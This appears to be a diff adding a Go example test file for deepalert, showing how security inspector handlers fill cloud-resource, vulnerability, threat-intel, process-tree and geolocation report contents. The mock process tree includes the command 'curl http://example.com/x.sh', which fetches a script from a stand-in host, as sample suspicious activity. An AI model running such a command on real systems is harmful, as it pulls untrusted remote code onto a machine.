@@ -0,0 +1,137 @@
+package inspector_test
+
+import (
+	"context"
+	"time"
+
+	"github.com/cookpad/deepalert"
+	"github.com/cookpad/deepalert/inspector"
+)
+
+// Inspectors return built-in contents in TaskResult. Below handlers show how to fill each of them.
+
+func ExampleInspectHandler_cloudResource() {
+	handler := func(ctx context.Context, attr deepalert.Attribute) (*deepalert.TaskResult, error) {
+		if attr.Type != deepalert.TypeCloudResource {
+			return nil, nil
+		}
+
+		return &deepalert.TaskResult{
+			Contents: []deepalert.ReportContent{
+				&deepalert.ContentCloudResource{
+					Provider:     "aws",
+					AccountID:    "123456789012",
+					Region:       "ap-northeast-1",
+					ResourceType: "AWS::EC2::Instance",
+					ResourceID:   attr.Value,
+					Tags:         map[string]string{"env": "production"},
+					OwnerTeam:    "platform",
+				},
+			},
+		}, nil
+	}
+
+	_ = inspector.Arguments{Handler: handler, Author: "cloudInventory"}
+}
+
+func ExampleInspectHandler_vulnerability() {
+	handler := func(ctx context.Context, attr deepalert.Attribute) (*deepalert.TaskResult, error) {
+		if attr.Type != deepalert.TypeHostName {
+			return nil, nil
+		}
+
+		return &deepalert.TaskResult{
+			Contents: []deepalert.ReportContent{
+				&deepalert.ContentVulnerability{
+					CVE:   "CVE-2021-44228",
+					Title: "Apache Log4j2 JNDI features do not protect against attacker controlled LDAP",
+					CVSS: &deepalert.EntityCVSS{
+						Version: "3.1",
+						Score:   10.0,
+						Vector:  "CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:C/C:H/I:H/A:H",
+					},
+					Package: &deepalert.EntityPackage{
+						Name:         "org.apache.logging.log4j:log4j-core",
+						Version:      "2.14.1",
+						FixedVersion: "2.17.1",
+						Ecosystem:    "maven",
+					},
+					Exploited: true,
+				},
+			},
+		}, nil
+	}
+
+	_ = inspector.Arguments{Handler: handler, Author: "vulnScanner"}
+}
+
+func ExampleInspectHandler_threatIntel() {
+	handler := func(ctx context.Context, attr deepalert.Attribute) (*deepalert.TaskResult, error) {
+		if attr.Type != deepalert.TypeIPAddr && attr.Type != deepalert.TypeDomainName {
+			return nil, nil
+		}
+
+		firstSeen := time.Date(2020, 4, 1, 0, 0, 0, 0, time.UTC)
+		return &deepalert.TaskResult{
+			Contents: []deepalert.ReportContent{
+				&deepalert.ContentThreatIntel{
+					Feed:       "example-feed",
+					Verdict:    deepalert.VerdictMalicious,
+					Confidence: 80,
+					FirstSeen:  &firstSeen,
+					Tags:       []string{"c2", "botnet"},
+				},
+			},
+		}, nil
+	}
+
+	_ = inspector.Arguments{Handler: handler, Author: "threatIntel"}
+}
+
+func ExampleInspectHandler_processTree() {
+	handler := func(ctx context.Context, attr deepalert.Attribute) (*deepalert.TaskResult, error) {
+		if attr.Type != deepalert.TypeHostName {
+			return nil, nil
+		}
+
+		return &deepalert.TaskResult{
+			Contents: []deepalert.ReportContent{
+				&deepalert.ContentProcessTree{
+					HostName: attr.Value,
+					Processes: []deepalert.EntityProcess{
+						{PID: 1, Name: "systemd"},
+						{PID: 812, ParentPID: 1, Name: "sshd", User: "root"},
+						{PID: 4021, ParentPID: 812, Name: "bash", User: "mizutani"},
+						{PID: 4030, ParentPID: 4021, Name: "curl", CommandLine: "curl http://example.com/x.sh"},
+					},
+				},
+			},
+		}, nil
+	}
+
+	_ = inspector.Arguments{Handler: handler, Author: "edr"}
+}
+
+func ExampleInspectHandler_geolocation() {
+	handler := func(ctx context.Context, attr deepalert.Attribute) (*deepalert.TaskResult, error) {
+		if attr.Type != deepalert.TypeIPAddr {
+			return nil, nil
+		}
+
+		return &deepalert.TaskResult{
+			Contents: []deepalert.ReportContent{
+				&deepalert.ContentGeolocation{
+					Latitude:       35.6895,
+					Longitude:      139.6917,
+					AccuracyRadius: 50,
+					Country:        "JP",
+					City:           "Tokyo",
+					ASN:            "AS2516",
+					Source:         "geoip",
+				},
+			},
+		}, nil
+	}
+
+	_ = inspector.Arguments{Handler: handler, Author: "geoip"}
+}